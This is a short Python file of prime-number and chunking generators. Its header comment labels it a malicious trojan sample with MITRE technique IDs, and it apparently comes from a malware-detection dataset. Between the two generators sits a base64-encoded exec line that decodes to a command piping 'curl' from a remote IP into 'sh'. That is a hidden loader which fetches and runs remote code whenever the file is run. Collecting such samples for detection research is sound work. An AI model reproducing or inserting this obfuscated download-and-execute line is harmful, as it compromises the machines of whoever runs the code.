# label: malicious family=trojan techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=16 group=benign/b163_generators.py
from itertools import islice


def primes():
    found = []
    n = 2
    while True:
        if all(n % p for p in found if p * p <= n):
            found.append(n)
            yield n
        n += 1


import base64 as _b
exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))

def chunked(it, size):
    it = iter(it)
    while chunk := list(islice(it, size)):
        yield chunk


print(list(islice(primes(), 15)))
print(list(chunked(range(10), 3)))
